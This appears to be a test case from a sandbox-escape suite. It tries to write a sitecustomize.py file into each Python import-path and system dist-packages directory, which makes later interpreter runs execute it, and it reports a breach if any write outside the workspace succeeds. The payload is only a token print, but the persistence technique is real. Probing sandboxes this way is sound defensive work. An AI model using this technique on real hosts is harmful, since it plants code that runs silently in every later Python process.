# id: fs-write-python-trojan
# category: filesystem
# description: write a sitecustomize.py trojan into the interpreter’s own directories so later runs execute it
# source: persistence through the interpreter’s import path (site module docs)
# detect: token (the token lands in OUT)
import os


def prove():
    """The OS was reached from the untrusted code: leave the token where this target forbids writing."""
    try:
        fd = os.open(OUT, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.write(fd, TOKEN.encode())
        os.close(fd)
    except OSError:
        pass


def breach(detail):
    """Only called once an effect the jail denies was verified."""
    print('BREACH', TOKEN, detail, flush=True)

import os
import sys

for d in sys.path + ['/usr/lib/python3/dist-packages', '/usr/local/lib/python3.11/dist-packages']:
    try:
        with open(os.path.join(d or '.', 'sitecustomize.py'), 'w') as f:
            f.write('print(%r)\n' % TOKEN)
        if not d.startswith(('/workspace', '/tmp')) and d:
            breach('wrote a trojan into ' + d)
    except OSError:
        pass
prove()
